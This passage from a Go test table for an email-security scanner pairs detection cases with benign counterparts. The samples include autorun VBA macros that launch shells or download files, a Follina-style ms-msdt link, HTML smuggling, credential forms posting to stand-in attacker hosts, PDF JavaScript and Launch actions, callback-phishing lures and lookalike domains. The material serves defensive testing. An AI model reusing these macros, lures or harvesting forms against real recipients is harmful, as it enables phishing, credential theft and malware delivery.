		},
		"container-ambiguous": {
			{"two zips", msg(part("2", zipBytes, named("a.zip"), container(), ambiguous("2 zip archives in one file"))), "2"},
			{"one reading", msg(part("2", zipBytes, named("a.zip"), container())), ""},
		},
		"vba-autorun-exec": {
			{"autoopen shell", vba("2/x.docm/vba/Module1", "Sub AutoOpen()\n  Shell \"cmd /c calc\", vbHide\nEnd Sub\n"), "2/x.docm/vba/Module1"},
			{"document_open computed createobject", msg(text("3", "Attribute VB_Name = \"ThisDocument\"\nPrivate Sub Document_Open()\n Set o = CreateObject(k & \"ell\")\nEnd Sub\n", named("macro.bas"))), "3"},
			{"workbook_open download", vba("2/x.docm/vba/ThisWorkbook", "Private Sub Workbook_Open()\nURLDownloadToFile 0, u, f, 0, 0\nEnd Sub"), "2/x.docm/vba/ThisWorkbook"},
			{"autorun only", vba("2/x.docm/vba/Module1", "Sub Workbook_Open()\n Set d = CreateObject(\"Scripting.Dictionary\")\nEnd Sub"), ""},
			{"exec only", vba("2/x.docm/vba/Module1", "Sub Button1_Click()\n Shell \"notepad\"\nEnd Sub"), ""},
			{"prose", msg(text("1", "Our shell fittings ship Monday. The sub AutoOpen committee meets; end sub.")), ""},
		},
		"vba-autorun": {
			{"workbook_open dictionary", vba("2/x.docm/vba/Module1", "Sub Workbook_Open()\n Set d = CreateObject(\"Scripting.Dictionary\")\nEnd Sub"), "2/x.docm/vba/Module1"},
			{"with exec", vba("2/x.docm/vba/Module1", "Sub AutoOpen()\n Shell \"calc\"\nEnd Sub"), ""},
			{"no autorun", vba("2/x.docm/vba/Module1", "Sub Tidy()\n Range(\"A1\").Value = 1\nEnd Sub"), ""},
		},
		"vba-exec": {
			{"button shell", vba("2/x.docm/vba/Module1", "Sub Button1_Click()\n Shell \"notepad\"\nEnd Sub"), "2/x.docm/vba/Module1"},
			{"variable named shell", vba("2/x.docm/vba/Module1", "Sub Tidy()\n Dim shell As Integer\n shellCount = 1\nEnd Sub"), ""},
		},
		"remote-template": {
			{"attachedTemplate http", relsMsg(`<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://203.0.113.9/t.dotm" TargetMode="External"/>`), "2/x.docx/word/_rels/settings.xml.rels"},
			{"oleObject UNC", relsMsg(`<Relationship Id="rId5" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject" Target="\\203.0.113.9\share\x.doc" TargetMode="External"/>`), "2/x.docx/word/_rels/settings.xml.rels"},
			{"RTF template", attach(part("2", []byte(`{\rtf1\ansi{\*\template https://templates.files.example.invalid/t.dotm}\pard Hello\par}`), named("letter.rtf"))), "2"},
			{"RTF template hex-escaped", attach(part("2", []byte(`{\rtf1{\*\template \'5c\'5c203.0.113.9\\share\\t.dot}Hi}`), named("letter.doc"))), "2"},
			{"RTF local template", attach(part("2", []byte(`{\rtf1{\*\template C:\\Users\\a\\Normal.dotm}Hi}`), named("letter.rtf"))), ""},
			{"linked OLE object, URL moniker", msg(part("2/o.rtf/object1.bin/Root Entry/Ole", formats.OLEStream("http://files.example.invalid/update.hta"), named("\x01Ole"))), "2/o.rtf/object1.bin/Root Entry/Ole"},
			{"linked OLE object at an odd offset", msg(part("2/o.doc/ObjectPool/_1/Ole", append(formats.OLEStream("https://x.example.invalid/a.doc")[:20], append([]byte{0}, formats.OLEStream("https://x.example.invalid/a.doc")[20:]...)...), named("\x01Ole"))), "2/o.doc/ObjectPool/_1/Ole"},
			{"embedded OLE object", msg(part("2/o.rtf/object1.bin/Root Entry/Ole", formats.OLEStream(""), named("\x01Ole"))), ""},
			{"hyperlink", relsMsg(`<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://www.example.com/" TargetMode="External"/>`), ""},
			{"local template", relsMsg(`<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="file:///C:\Users\a\Normal.dotm" TargetMode="External"/>`), ""},
			// Found by the corpus: a workbook linked to another on SharePoint was quarantined.
			{"excel linked workbook", relsMsg(`<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath" Target="https://corp.sharepoint.example/sites/finance/budget.xlsx" TargetMode="External"/>`), ""},
		},
		"ms-protocol-handler": {
			{"follina html", msg(htmlPart("2/x.docx/word/x.html", `<script>location.href = "ms-msdt:/id PCWDiagnostic /skip force";</script>`)), "2/x.docx/word/x.html"},
			{"search-ms rels", relsMsg(`<Relationship Id="r" Type="x/oleObject" Target="search-ms:query=invoice&amp;crumb=location:\\203.0.113.9\s" TargetMode="External"/>`), "2/x.docx/word/_rels/settings.xml.rels"},
			{"plain text mention", msg(text("1", "Windows search-ms: links are handy.")), ""},
		},
		"html-smuggling": {
			{"blob with payload", attach(htmlPart("2", `<html><script>var d=atob("`+strings.Repeat("QUFB", 2000)+`");var b=new Blob([d]);var u=URL.createObjectURL(b);</script></html>`, named("doc.html"))), "2"},
			{"download data link", attach(htmlPart("2", `<a download="invoice.zip" href="data:application/zip;base64,UEsDBA==">get</a>`, named("doc.html"))), "2"},
			{"inline image, no blob", body(`<p>hi</p><img src="data:image/png;base64,` + strings.Repeat("QUFB", 3000) + `">`), ""},
			{"small blob", body(`<script>var b = new Blob(["hi"]);</script>`), ""},
		},
		"html-credential-form": {
			{"attachment posts away", attach(htmlPart("2", `<form action="https://collect.attacker.example/p" method="post"><input type="email"><input type="password" name="pw"></form>`, named("login.html"))), "2"},
			{"body posts to other domain", body(`<form action="https://collect.attacker.example/p"><input type=PASSWORD></form>`), "1"},
			{"data action", body(`<form action="data:text/html,x"><input type="password"></form>`), "1"},
			{"body posts to sender domain", body(`<form action="https://login.example.com/p"><input type="password"></form>`), ""},
			{"no password", body(`<form action="https://survey.attacker.example/"><input type="text"></form>`), ""},
			{"relative action", attach(htmlPart("2", `<form action="/login"><input type="password"></form>`, named("a.html"))), ""},
		},
		"svg-script": {
			{"script", attach(text("2", `<svg xmlns="http://www.w3.org/2000/svg"><script>location="https://x.example"</script></svg>`, named("img.svg"))), "2"},
			{"onload", attach(text("2", `<svg onload="go()"></svg>`, declared("image/svg+xml"))), "2"},
			{"plain svg", attach(text("2", `<svg xmlns="http://www.w3.org/2000/svg"><circle r="4"/></svg>`, named("dot.svg"))), ""},
		},
		"pdf-javascript": {
			{"javascript", attach(part("2", pdfWith("/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"), named("a.pdf"))), "2"},
			{"hex escaped", attach(part("2", pdfWith("/OpenAction << /S /J#61vaScript /J#53 (x) >>"), named("a.pdf"))), "2"},
			{"in object stream", pdfStream("<< /S /JS (x) >>"), "2/x.pdf/streams"},
			{"embedded file is not the pdf", msg(part("2", pdfWith("/Type /EmbeddedFile"), named("x.pdf"), container()), text("2/x.pdf/notes.txt", "/JS is a name", named("notes.txt"))), ""},
			{"clean", attach(part("2", cleanPDF, named("a.pdf"))), ""},
			{"not a pdf", msg(text("1", "see /JavaScript docs")), ""},
		},
		"pdf-launch": {
			{"launch", attach(part("2", pdfWith("/OpenAction << /S /Launch /F (cmd.exe) >>"), named("a.pdf"))), "2"},
			{"escaped", attach(part("2", pdfWith("/A << /S /L#61unch >>"), named("a.pdf"))), "2"},
			{"clean", attach(part("2", cleanPDF, named("a.pdf"))), ""},
		},
		"pdf-active-content": {
			{"openaction", attach(part("2", pdfWith("/OpenAction 3 0 R"), named("a.pdf"))), "2"},
			{"embedded file", attach(part("2", pdfWith("/Type /EmbeddedFile"), named("a.pdf"))), "2"},
			{"uri only", attach(part("2", cleanPDF, named("a.pdf"))), ""},
		},
		"pdf-credential-form": {
			{"password field and SubmitForm", attach(part("2", []byte(credForm), named("a.pdf"))), "2"},
			{"escaped names, flags with Required", attach(part("2", []byte(strings.NewReplacer("/Ff 8192", "/F#66 8194", "/SubmitForm", "/Subm#69tForm").Replace(credForm)), named("a.pdf"))), "2"},
			{"field in an object stream", msg(part("2", pdfWith("/S /SubmitForm /F << /FS /URL /F (https://collect.evil.example/p) >>"), named("x.pdf"), container()),
				text("2/x.pdf/streams", "<< /FT /Tx /T (pw) /Ff 8192 >>", named("streams"))), "2"},
			{"script's submitForm", attach(part("2", pdfWith(`/FT /Tx /Ff 8192 /AA << /K << /S /JavaScript /JS (this.submitForm\({cURL: "https://collect.evil.example/p"}\)) >> >>`), named("a.pdf"))), "2"},
			{"XFA", msg(part("2", pdfWith("/XFA 5 0 R"), named("x.pdf"), container()),
				text("2/x.pdf/streams", `<field name="pw"><ui><passwordEdit/></ui></field><event activity="click"><submit format="urlencoded" target="https://collect.evil.example/x"/></event>`, named("streams"))), "2"},
			{"no password field", attach(part("2", []byte(strings.Replace(credForm, "/Ff 8192", "/Ff 4096", 1)), named("a.pdf"))), ""},
			{"to the sender's own site", sentBy("forms@bank.example", attach(part("2", []byte(strings.Replace(credForm, "collect.evil.example", "secure.bank.example", 1)), named("a.pdf")))), ""},
			{"password field, no submit", attach(part("2", pdfWith("/FT /Tx /T (pin) /Ff 8192"), named("a.pdf"))), ""},
		},
		"pdf-link-lure": {
			{"view document link", attach(part("2", linkLurePDF("Secure Document) Tj 0 -30 Td (You have received a document to review.) Tj 0 -30 Td (VIEW DOCUMENT", "https://docs-share.example/v/8812"), named("Scan_0042.pdf"))), "2"},
			{"URL in the text only", attach(part("2", formats.TextPDF([]string{"BT /F1 14 Tf 72 700 Td (Click here to view the shared file: https://docs-share.example/v) Tj ET"}), named("Fax.pdf"))), "2"},
			{"letters one by one", attach(part("2", linkLurePDF("O p e n   D o c u m e n t", "https://docs-share.example/v"), named("a.pdf"))), "2"},
			{"German", attach(part("2", linkLurePDF("Sie haben ein Dokument erhalten.) Tj 0 -30 Td (Dokument anzeigen", "https://docs-share.example/v"), named("Rechnung.pdf"))), "2"},
			{"French with an accent", attach(part("2", linkLurePDF("Document s\351curis\351 : cliquez sur le lien", "https://docs-share.example/v"), named("Facture.pdf"))), "2"},
			{"picture only", attach(part("2", formats.TextPDF([]string{"q 595 0 0 842 0 0 cm /Im1 Do Q"}, "<< /Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceGray /BitsPerComponent 8 /Length 1 >>\nstream\n\x80\nendstream", linkAnnot("https://docs-share.example/v")), named("Invoice.pdf"))), "2"},
			{"an English ask, blank pages after", attach(part("2", formats.TextPDF([]string{"BT /F1 16 Tf 72 700 Td (Access your signed contract here) Tj ET", "", "", ""}, linkAnnot("https://docs-share.example/v")), named("Contract.pdf"))), "2"},
			{"picture and blank pages", attach(part("2", formats.TextPDF([]string{"q 595 0 0 842 0 0 cm /X7 Do Q", "", ""}, "<< /Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceGray /BitsPerComponent 8 /Length 1 >>\nstream\n\x80\nendstream", linkAnnot("https://docs-share.example/v")), named("Scan.pdf"))), ""},
			{"to a file share", attach(part("2", linkLurePDF("View shared document", "https://www.dropbox.com/scl/fi/a8x/Invoice.pdf?dl=0"), named("a.pdf"))), "2"},
			{"a brand's own service, unnamed", attach(part("2", linkLurePDF("Please review and sign the contract", "https://app.docusign.com/signing/x"), named("a.pdf"))), ""},
			{"link to the sender's own site", sentBy("billing@vendor.example", attach(part("2", linkLurePDF("Click here to view your document", "https://portal.vendor.example/d/1"), named("a.pdf")))), ""},
			{"the From's own site, a mailing service's envelope", func() *message.Message {
				m := attach(part("2", linkLurePDF("Click here to view your document", "https://portal.vendor.example/d/1"), named("a.pdf")))
				m.From, m.Envelope.Sender = "Billing <billing@vendor.example>", "bounce-7@esp.example.net"
				return m
			}(), ""},
			{"the named brand's own site", attach(part("2", linkLurePDF("DocuSign) Tj 0 -30 Td (Review document", "https://app.docusign.com/x"), named("a.pdf"))), ""},
			{"a long document with a link", attach(part("2", linkLurePDF(strings.Repeat("Quarterly figures and commentary follow. ", 25)+"View document online", "https://reports.example.org/q3"), named("q3.pdf"))), ""},
			{"a flyer with a link", attach(part("2", linkLurePDF("Summer concert in the park, 7 pm. Tickets and programme", "https://tickets.example.org/summer"), named("flyer.pdf"))), ""},
			{"pages without a link", attach(part("2", formats.TextPDF([]string{"BT /F1 14 Tf 72 700 Td (Open the document in Word to edit it.) Tj ET"}), named("note.pdf"))), ""},
		},
		"callback-phishing": {
			{"pdf lure", attach(part("2", lurePDF("BT /F1 12 Tf 72 700 Td (Order 4471-2231: $399.99 charged today. If you did not authorize this, call 1-808-555-0199 to cancel.) Tj ET"), named("invoice.pdf"))), "2"},
			{"pdf in glyph numbers, number split over TJ", attach(part("2", lurePDF("BT /F2 12 Tf 72 700 Td ["+formats.CIDText("Renewal charged: USD 499.00. To cancel call +1 (80")+" -12 "+formats.CIDText("8) 555-")+" 30 "+formats.CIDText("0199")+"] TJ ET"), named("renewal.pdf"))), "2"},
			{"full-width digits", sentBy("billing.team2026@gmail.com", msg(text("1", "McAfee Total Protection\nYour subscription was renewed and $499.99 was charged.\nTo cancel or claim a refund, call ＋１ (８０８) ５５５-０１９９."))), "1"},
			{"arabic-indic digits and O for zero", sentBy("billing.team2026@gmail.com", msg(text("1", "Geek Squad membership\nAuto-renewal payment of $299.99 processed.\nFor a refund call our helpline ١-٨٠٨-٥٥٥-٠١٩٩ or 1.8O8.555.O199."))), "1"},
			{"look-alike letters", sentBy("billing.team2026@gmail.com", msg(text("1", "N\u043erton 360 Deluxe\nInvoice: you were billed 349.99 USD. Not authorized? Call 808 555 0199 to dispute."))), "1"},
			{"spaced out", sentBy("billing.team2026@gmail.com", msg(text("1", "P a y P a l\nA payment of €750.00 was sent for your order. If you don't recognize it, contact us at 808-555-0199 to cancel."))), "1"},
			{"html body", sentBy("billing.team2026@gmail.com", body(`<div style="font:bold 20px Arial">Norton<span style="display:none">x</span> LifeLock</div><p>Your annual subscription renewed: <b>$389.00</b>.</p><p>To cancel, call <b>(808)&nbsp;555&#8209;0199</b></p>`)), "1"},
			{"the brand's own invoice", sentBy("billing@norton.com", msg(text("1", "Norton 360 Deluxe\nYour subscription renewed: $99.99 charged. To cancel call 1-808-555-0199."))), ""},
			{"a supplier's invoice with a number", attach(part("2", formats.TextPDF([]string{"BT /F1 18 Tf 72 780 Td (Example Supplies Ltd) Tj ET BT /F1 12 Tf 72 700 Td (Invoice INV-2207: 12 toner cartridges, total $1,200.00. Paid with PayPal. To cancel or change your order call +44 20 7946 0958.) Tj ET"}), named("invoice.pdf"))), ""},
			{"a support reply with a number", msg(text("1", "Re: ticket 58812 (Microsoft Teams)\nThanks for contacting support. If the sign-in issue persists, call our helpdesk at 1-808-555-0100.")), ""},
			{"an order confirmation without a number", msg(text("1", "Amazon order confirmation\nOrder 112-4471: $29.99. To cancel, open Your Orders.")), ""},
			{"a customer's own number", sentBy("jo@gmail.com", msg(text("1", "Amazon order question\nAmazon charged me $49.99 twice for the same order. I asked for a refund; can you call me at 415-555-0199 to sort out how to cancel the duplicate?"))), ""},
			{"Geek Squad from Best Buy", sentBy("geeksquad@bestbuy.com", msg(text("1", "Your Geek Squad Protection plan renewed\nRenewed for $199.99 on Dec 5. To cancel or get a refund, call us at 1-888-237-8289."))), ""},
			{"a PDF lure from a company's domain", sentBy("billing@invoices-center.example", attach(part("2", lurePDF("BT /F1 12 Tf 72 700 Td (Order 4471-2231: $399.99 charged today. If you did not authorize this, call 1-808-555-0199 to cancel.) Tj ET"), named("invoice.pdf")))), "2"},
			{"free mail is not the brand", sentBy("help.desk@outlook.com", msg(text("1", "Microsoft 365 renewal\n$299.99 was charged. If you did not authorize it, call 1-808-555-0199."))), "1"},
		},
		"blocklisted-url": {
			{"subdomain in text", msg(text("1", "go to http://www.evil.example/x now")), "1"},
			{"url prefix", body(`<a href="https://sites.example.net/bad/page">here</a>`), "1"},
			{"other domain", msg(text("1", "https://notevil.example/")), ""},
			{"prefix not at boundary", msg(text("1", "https://sites.example.net/badger")), ""},
		},
		"dnsbl-url": {
			{"listed", msg(text("1", "https://www.listed.example/x")), "1"},
			{"not listed", msg(text("1", "https://www.example.org/x")), ""},
		},
		"lookalike-domain": {
			{"cyrillic a", msg(text("1", "https://www.pаypal.com/login")), "1"},
			{"punycode", msg(text("1", "http://xn--pypal-4ve.com/")), "1"},
			{"rn for m", body(`<a href="https://rnicrosoft.com/x">sign in</a>`), "1"},
			{"zeros", msg(text("1", "https://g00gle.com/")), "1"},
			{"real", msg(text("1", "https://www.paypal.com/ and https://paypal.example.org/")), ""},
			{"googlemail", msg(text("1", "https://googlemail.com/")), ""},
			{"latin diacritic", msg(text("1", "https://www.paypa\u1e37.com/signin")), "1"},
			{"percent-encoded diacritic", body(`<a href="https://paypa%E1%B8%B7.com/">x</a>`), "1"},
			{"one letter added", msg(text("1", "https://www.paypall.com/")), "1"},
			{"swapped letters", msg(text("1", "https://micorsoft.com/")), "1"},
			{"added hyphen", msg(text("1", "https://pay-pal.com/")), "1"},
			{"lure words", msg(text("1", "https://secure-paypal-login.com/")), "1"},
			{"honest idn", msg(text("1", "https://www.bücher-müller.example/")), ""},
			{"honest word", msg(text("1", "https://cloud.example.com/ https://finance.example.org/ https://www.apply.example/")), ""},
			// PDF readers make links of URLs in a page's text.
			{"pdf text split by kerning", attach(part("2", formats.TextPDF([]string{"BT /F1 12 Tf 72 700 Td [(Sign in at https://www.pay)-15(pa1.com/ac)20(count)] TJ ET"}), named("statement.pdf"))), "2"},
			{"pdf text in glyph numbers", attach(part("2", formats.TextPDF([]string{"BT /F2 12 Tf 72 700 Td " + formats.CIDText("https://rnicrosoft.com/login") + " Tj ET"}), named("statement.pdf"))), "2"},
			{"pdf text real", attach(part("2", formats.TextPDF([]string{"BT /F1 12 Tf 72 700 Td [(https://www.pay)-15(pal.com/)] TJ ET"}), named("statement.pdf"))), ""},
		},
		"mixed-script-domain": {
			{"mixed", msg(text("1", "https://pаypal.com/")), "1"},
			{"all cyrillic", msg(text("1", "https://пример.рф/")), ""},
			{"ascii", msg(text("1", "https://example.com/")), ""},
		},
		"userinfo-url": {
			{"bank at ip", msg(text("1", "https://bank.example@198.51.100.7/login")), "1"},
			{"ftp login", msg(text("1", "ftp://user:pw@ftp.example.com/")), ""},
		},
		"ip-url": {
			{"ipv4", msg(text("1", "http://198.51.100.7/x")), "1"},
			{"ipv6", body(`<a href="http://[2001:db8::1]/">x</a>`), "1"},
			{"decimal", body(`<a href="http://3232235777/">x</a>`), "1"},
			{"name", msg(text("1", "https://www.example.com/")), ""},
		},
		"recipient-in-link": {
			{"address after #", toKenji(msg(text("1", "https://pub-3f1e.r2.dev/o365.html#kenji@corp.example.jp"))), "1"},
			{"in the query", toKenji(msg(text("1", "https://news.example-esp.com/u?email=kenji@corp.example.jp"))), ""},
			{"no recipient", msg(text("1", "https://pub-3f1e.r2.dev/o365.html#kenji@corp.example.jp")), ""},
		},
		"anonymous-host-link": {
			{"ipfs subdomain", body(`<a href="https://bafybeigdyrzt5sfp7udm7hu76uh7y26nf3efuylqabf3oclgtqy55fbzdi.ipfs.dweb.link/">Keep my mail</a>`), "1"},
			{"ipfs path on any gateway", msg(text("1", "https://gw.example.net/ipfs/QmXoypizjW3WknFiJnKLwHCnL72vedxjQkDDP1mXWo6uco/a.pdf")), "1"},
			{"ipfs scheme", body(`<a href="ipfs://bafybeigdyrzt5sfp7udm7hu76uh7y26nf3efuylqabf3oclgtqy55fbzdi/verify.html">Verify</a>`), "1"},
			{"tunnel", msg(text("1", "https://tied-agents-mild-recipe.trycloudflare.com/vm")), "1"},
			{"page in a bucket", msg(text("1", "https://storage.googleapis.com/bkt-8823x/index.html")), "1"},
			{"file in a bucket", msg(text("1", "https://storage.googleapis.com/public-data/2026/report.pdf")), ""},
			{"ipfs image", body(`<img src="https://ipfs.io/ipfs/QmXoypizjW3WknFiJnKLwHCnL72vedxjQkDDP1mXWo6uco/cat.png">`), ""},
			{"ipfs docs site", msg(text("1", "https://docs.ipfs.tech/install/")), ""},
			{"app hosting", msg(text("1", "https://acme-demo.vercel.app/login")), ""},
		},
		"free-hosting-lure": {
			{"brand in the site's name", body(`<a href="https://sharepoint-doc-7f3a.pages.dev/">Open</a>`), "1"},
			{"brand in a bucket's name", msg(text("1", "https://storage.googleapis.com/paypal-center-7a/x.pdf")), "1"},
			{"brand glued to a lure word", body(`<a href="https://wellsfargoonline.glitch.me/">Review</a>`), "1"},
			{"brand glued to a hex tail", body(`<a href="https://docusign7f3a.vercel.app/">Review</a>`), "1"},
			{"glued brand with a zero", body(`<a href="https://micros0ftverify.web.app/">Review</a>`), "1"},
			{"glued brand page", msg(text("1", "https://pub-3f1e.r2.dev/securepaypal.html")), "1"},
			{"docusign lure to a dropbox file", body(`<a href="https://www.dropbox.com/scl/fi/ab12/Agreement.pdf?dl=0">Review document in DocuSign</a>`), "1"},
			{"google drawing as a microsoft lure", body(`<a href="https://docs.google.com/drawings/d/1AbC/preview">View Microsoft 365 document</a>`), "1"},
			{"brand blog", msg(text("1", "https://paypal-resolution-7a.blogspot.com/")), "1"},
			{"form backend an attachment posts to", attach(htmlPart("2", `<form action="https://formspree.io/f/xyzabc"><input name="e"></form>`, named("doc.html"))), "2"},
			{"onedrive for business file", body(`<a href="https://acme-my.sharepoint.com/:x:/g/personal/kenji_acme_example/EaBc">Open in SharePoint</a>`), ""},
			{"dropbox share", body(`<a href="https://www.dropbox.com/s/ab12/photos.zip?dl=0">Open in Dropbox</a> <a href="https://1drv.ms/x/s!AbC">View on OneDrive</a>`), ""},
			{"published slides", body(`<a href="https://docs.google.com/presentation/d/e/2PACX-1v/pub">Q3 all-hands slides</a>`), ""},
			{"mailbox lure to a google form", body(`<p>Your mailbox is <b>full</b>. Incoming mail will be returned.</p><a href="https://docs.google.com/forms/d/e/1FAIpQLSx/viewform">Get more space</a>`), "1"},
			{"password lure to microsoft forms, words split by a line break", msg(text("1", "Your password\nexpires today. Keep it: https://forms.office.com/r/Xk4h8Qw2Lm")), "1"},
			{"subject lure to jotform", func() *message.Message {
				m := body(`<a href="https://form.jotform.com/231234567890">Continue</a>`)
				m.Subject = "Storage quota exceeded"
				return m
			}(), "1"},
			{"german lure to a typeform", body(`<p>Ihr Postfach&nbsp;ist voll.</p><a href="https://acme7.typeform.com/to/AbCd">Jetzt erweitern</a>`), "1"},
			{"japanese lure to a shared drawing", body(`<p>パスワードの有効期限が切れます。</p><a href="https://docs.google.com/drawings/d/1AbC/preview">確認</a>`), "1"},
			{"lure split by a zero-width space", body("<p>Your mail\u200bbox is full.</p><a href=\"https://forms.office.com/r/Xk4h8Qw2Lm\">Get space</a>"), "1"},
			{"lure split by markup", body(`<p>Your mail<b>box</b> is&#32;full.</p><a href="https://forms.office.com/r/Xk4h8Qw2Lm">Get space</a>`), "1"},
			{"lure in entities", body(`<p>Your &#109;ailbox is full.</p><a href="https://forms.office.com/r/Xk4h8Qw2Lm">Get space</a>`), "1"},
			{"full-width lure", body("<p>Your \uff4d\uff41\uff49\uff4c\uff42\uff4f\uff58 is full.</p><a href=\"https://forms.office.com/r/Xk4h8Qw2Lm\">Get space</a>"), "1"},
			{"team lunch form", body(`<p>Pick your lunch for Friday's offsite. The form closes Thursday.</p><a href="https://docs.google.com/forms/d/e/1FAIpQLSx/viewform">Lunch form</a>`), ""},
			{"password policy survey", body(`<p>Tell us what you think of the new password rules.</p><a href="https://forms.office.com/r/Ab12Cd34Ef">Survey</a>`), ""},
			{"developer's clone of a brand", body(`<a href="https://netflixclone-demo.vercel.app/">my clone</a>`), ""},
			{"word holding a brand", body(`<a href="https://pineapple2026.netlify.app/">menu</a> <a href="https://purchase-7f3a.pages.dev/">order</a>`), ""},
			{"brand page in a bucket", msg(text("1", "https://firebasestorage.googleapis.com/v0/b/xyz-8823.appspot.com/o/adobe.html?alt=media")), "1"},
			{"sign-in page on ipfs", msg(text("1", "https://ipfs.io/ipfs/QmXoypizjW3WknFiJnKLwHCnL72vedxjQkDDP1mXWo6uco/webmail.html")), "1"},
			{"recipient in the query", toKenji(msg(text("1", "https://8f3a-203-0-113-7.ngrok-free.app/login?u=kenji@corp.example.jp"))), "1"},
			{"text names a brand", body(`<a href="https://team-chat-84aa.vercel.app/">Open Microsoft Teams</a>`), "1"},
			{"form posts there", body(`<form action="https://collect-7f3a.workers.dev/"><input name="e"></form>`), "1"},
			{"attachment's script sends there", attach(htmlPart("2", `<p>Loading...</p><script>fetch("https://api-7f3a.workers.dev/c",{method:"POST"})</script>`, named("fax.html"))), "2"},
			{"attachment's text names it", attach(htmlPart("2", `<script>var x=1</script><p>Docs: https://acme-docs.github.io/</p>`, named("notes.html"))), ""},
			{"bucket page to verify", body(`<a href="https://owaverify7721.blob.core.windows.net/$web/index.html">Verify now</a>`), "1"},
			{"ipfs page to keep a password", body(`<a href="https://cloudflare-ipfs.com/ipfs/bafybeigdyrzt5sfp7udm7hu76uh7y26nf3efuylqabf3oclgtqy55fbzdi">Keep current password</a>`), "1"},
			{"bucket file to verify", body(`<a href="https://storage.googleapis.com/acme-data/checksums.txt">verify the download</a>`), ""},
			{"app to sign in", body(`<a href="https://acme-demo.vercel.app/">Log in to the demo</a>`), ""},
			{"project docs", body(`<a href="https://kensa-milter.github.io/kensa/">docs</a> <a href="https://microsoft.github.io/TypeScript-New-Handbook/">Microsoft TypeScript handbook</a>`), ""},
			{"developer demo", body(`<a href="https://nextjs-auth-login-demo.vercel.app/login">demo</a>`), ""},
			{"google's own bucket", msg(text("1", "https://storage.googleapis.com/google-code-archive-downloads/v2/x.zip")), ""},
			{"ordinary word", body(`<a href="https://sites.google.com/view/office-hours-2026">Office hours</a>`), ""},
			{"pre-filled form", toKenji(msg(text("1", "https://docs.google.com/forms/d/e/1FAIp/viewform?entry.1=kenji@corp.example.jp"))), ""},
			{"app's invitation", toKenji(msg(text("1", "https://acme-crm.herokuapp.com/invite?email=kenji@corp.example.jp"))), ""},
			{"google's form", body(`<a href="https://docs.google.com/forms/d/e/1FAIp/viewform">Google Form</a>`), ""},
			{"the sender's own site", fromSite(toKenji(msg(text("1", "https://acme-app-12345.firebaseapp.com/__/auth/action?mode=verifyEmail&email=kenji@corp.example.jp")))), ""},
			{"the hosting's own site", body(`<a href="https://pages.dev/">Cloudflare Pages</a> <a href="https://www.weebly.com/">Weebly</a>`), ""},
			{"brand image", body(`<img src="https://paypal-assets.netlify.app/logo.png">`), ""},
		},
		"link-text-mismatch": {
			{"other domain", body(`<a href="https://attacker.example/x">www.example.org</a>`), "1"},
			{"same domain", body(`<a href="https://example.com/a">www.example.com</a>`), ""},
			{"words", body(`<a href="https://attacker.example/x">Click here</a>`), ""},
			{"one word", body(`<a href="https://attacker.example/x">Unsubscribe</a>`), ""},
			{"mail address", body(`<a href="mailto:sales@example.com">sales@example.com</a>`), ""},
			{"file name", body(`<a href="https://cdn.example.net/f">report.pdf</a>`), ""},
			{"brand speaks elsewhere", body(`<a href="https://attacker.example/">https://www.paypal.com/</a>`), ""},
		},
		"link-text-brand-mismatch": {
			{"paypal", body(`<a href="https://attacker.example/">https://www.paypal.com/signin</a>`), "1"},
			{"real paypal", body(`<a href="https://www.paypal.com/x">paypal.com</a>`), ""},
			{"non-brand", body(`<a href="https://attacker.example/x">www.example.org</a>`), ""},
		},
		"brand-signin-link": {
			{"sign in to microsoft 365", body(`<a href="https://m365-session.example.net/owa">Sign in to Microsoft 365</a>`), "1"},
			{"docusign review", body(`<a href="https://secure-envelope.example.org/r/7f3a">Review Document in DocuSign</a>`), "1"},
			{"view on sharepoint", body(`<a href="https://files-portal.example.com/d/q4">View on SharePoint</a>`), "1"},
			{"verify paypal", body(`<a href="https://resolution-center.example.net/">Verify your PayPal account</a>`), "1"},
			{"outlook password, split over markup", body(`<a href="https://mail-keep.example.net/"><b>Keep</b> Outlook <span>password</span></a>`), "1"},
			{"lookalike letters", body(`<a href="https://m365-session.example.net/owa">Sign in to Micr0soft 365</a>`), "1"},
			{"split brand", body(`<a href="https://pp-center.example.net/">Log in to Pay Pal</a>`), "1"},
			{"full-width brand", body("<a href=\"https://x-docs.example.net/\">Review document in \uff24\uff4f\uff43\uff55\uff53\uff49\uff47\uff4e</a>"), "1"},
			{"real docusign", body(`<a href="https://na3.docusign.net/Signing/EmailStart.aspx?a=1">Review document in DocuSign</a>`), ""},
			{"real sharepoint", body(`<a href="https://acme.sharepoint.com/sites/team/doc.docx">View on SharePoint</a> <a href="https://www.office.com/launch/word">Open in Word Online, Microsoft 365</a>`), ""},
			{"brand's country domain", body(`<a href="https://www.paypal.de/signin">Bei PayPal login</a> <a href="https://www.sparkasse-koelnbonn.de/de/home.html">Login Sparkasse</a>`), ""},
			{"app's own button", body(`<a href="https://app.acme.example/auth/google">Sign in with Google</a>`), ""},
			{"non-brand", body(`<a href="https://app.acme.example/login">Sign in to your Acme account</a>`), ""},
			{"the owner's other domains (urls.brandSenders)", body(`<a href="https://secure.jpmorgan.com/login">Log in to Chase</a> <a href="https://documents.acrobat.com/d/7f3a">Review document in Adobe</a>`), ""},
			{"the company's own sign-in server", toKenji(sentBy("it@corp.example.jp", body(`<a href="https://sso.corp.example.jp/adfs/ls">Sign in to Microsoft 365</a>`))), ""},
			{"a protected company's sign-in server", sentBy("it@acme-payroll.example", body(`<a href="https://login.acme-payroll.example/">Sign in to Microsoft 365</a>`)), ""},
			{"a stranger's domain linking to itself", toKenji(sentBy("it@m365-session.example.net", body(`<a href="https://m365-session.example.net/owa">Sign in to Microsoft 365</a>`))), "1"},
			{"a lookalike linking to itself", sentBy("it@acme-payrol.example", toStaff("staff@acme-payrol.example", body(`<a href="https://login.acme-payrol.example/">Sign in to Microsoft 365</a>`))), "1"},
			{"free mail linking to itself", sentBy("jo@gmx.de", toStaff("kim@gmx.de", body(`<a href="https://www.gmx.de/login">Sign in to Microsoft 365</a>`))), "1"},
